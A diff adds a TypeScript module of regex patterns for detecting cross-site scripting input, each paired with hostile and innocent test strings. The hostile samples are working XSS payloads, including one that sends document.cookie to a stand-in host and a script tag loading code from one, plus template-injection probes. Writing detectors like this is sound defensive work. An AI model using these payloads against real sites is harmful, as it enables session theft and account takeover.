@@ -1,0 +1,84 @@
+// Grammar of texts written to run in the browser of another visitor.
+// Each entry keeps the hostile and innocent texts that it is tested with.
+import type { GrammarEntry } from './grammar-entry.ts';
+
+/** Tried on the first 4,096 characters of a decoded value. */
+export const SCRIPT_GRAMMAR: readonly GrammarEntry[] = [
+  // a script element with code or source
+  {
+    id: 'xss-script',
+    family: 'xss',
+    cls: 'active',
+    re: /<script\b[^>]{0,300}\bsrc\s*=|<script\b[^>]{0,200}>\s*[^<\s][^<]{0,2000}(?:<\/script|[.(=\[;])|<script[^>]{0,100}>\s*(?:$|<\/script)|^[^<]{0,40}["'>]\s*<script\b/i,
+    hostile: [
+      '<script>alert(1)</script>',
+      '<script>alert(document.cookie)</script>',
+      '<script src=//evil.example/x.js></script>',
+      '"><script>alert`1`</script>',
+      '<ScRiPt>prompt(9)',
+    ],
+    innocent: [
+      '<b>Urgent</b> my site shows <script> tag in the header, please help',
+      'the script tag',
+      '<3 gifts',
+      'javascript tutorial',
+    ],
+  },
+  // an element with an event handler that holds code
+  {
+    id: 'xss-handler',
+    family: 'xss',
+    cls: 'active',
+    re: /<[a-z!/][^<>]{0,300}[\s/"'`]on[a-z]{3,20}\s*=\s*["'`]?\s*[a-z_$(\[!+~-]/i,
+    hostile: [
+      '"><img src=x onerror=alert(1)>',
+      '<svg/onload=fetch("//evil.example/"+document.cookie)>',
+      '<details open ontoggle=alert(1)>',
+      '<body onpageshow=alert(1)>',
+      '<a onmouseover=alert(1)>x',
+    ],
+    innocent: ['book <on sale> now', '<3 on=off', 'a < b, once = 1'],
+  },
+  // elements that load or run something by themselves
+  {
+    id: 'xss-tag',
+    family: 'xss',
+    cls: 'active',
+    re: /<(?:xml|bgsound|layer|ilayer|frameset|applet|isindex|object|embed|base|meta\s+http-equiv|span\s+datasrc)\b[^>]{0,200}?(?:\b(?:src|href|data|code|content|url|action|datasrc)\s*)?=/i,
+    hostile: [
+      '<xml SRC="xsstest.xml" ID=I></xml>',
+      '<object data=x>',
+      '<base href=//evil.example/>',
+      '<META HTTP-EQUIV="refresh" CONTENT="0;url=//x">',
+    ],
+    innocent: ['<xml>', '<meta name="google-site-verification" content="x">', 'object = subject'],
+  },
+  // script addresses
+  {
+    id: 'xss-uri',
+    family: 'xss',
+    cls: 'active',
+    re: /^\s*["']?\s*(?:javascript|vbscript)\s*:\s*(?!void\b|history\b|;|\/\/|\s|$)\S|(?:href|src|action|formaction|data|xlink:href|srcdoc)\s*=\s*["'`]?\s*(?:javascript|vbscript|data\s*:\s*text\/html)\s*:?/i,
+    hostile: [
+      'javascript:alert(1)',
+      '<a href=javascript:alert(1)>x</a>',
+      '<iframe src="data:text/html,<script>alert(1)</script>">',
+    ],
+    innocent: ['I learn javascript : it is fun', 'source: data', 'javascript:;', 'javascript:void(0);'],
+  },
+  // a closed attribute or text followed by an element or a call; template probes
+  {
+    id: 'xss-breakout',
+    family: 'xss',
+    cls: 'break',
+    re: /^[^<>]{0,40}["'`]\s*\/?>\s*<\s*[a-z!/]|^['"`)\]};\s]*['"`][\s)\]};]*[-+*;|&^,]+\s*(?:alert|prompt|confirm|eval|print|fetch|import|window|document|top|self)\b\s*[(`.\[]|\{\{\s*(?:constructor|\$on|\d+\s*\*\s*\d+)/i,
+    hostile: [
+      '"><img src=x>',
+      "'-alert(1)-'",
+      "';alert(1)//",
+      "{{constructor.constructor('alert(1)')()}}",
+      '{{7*7}}',
+    ],
+    innocent: ['alert(1) tutorial', '"quoted" > arrow', '{{widget type="Magento\\Cms\\Block"}}'],
+  },
+];
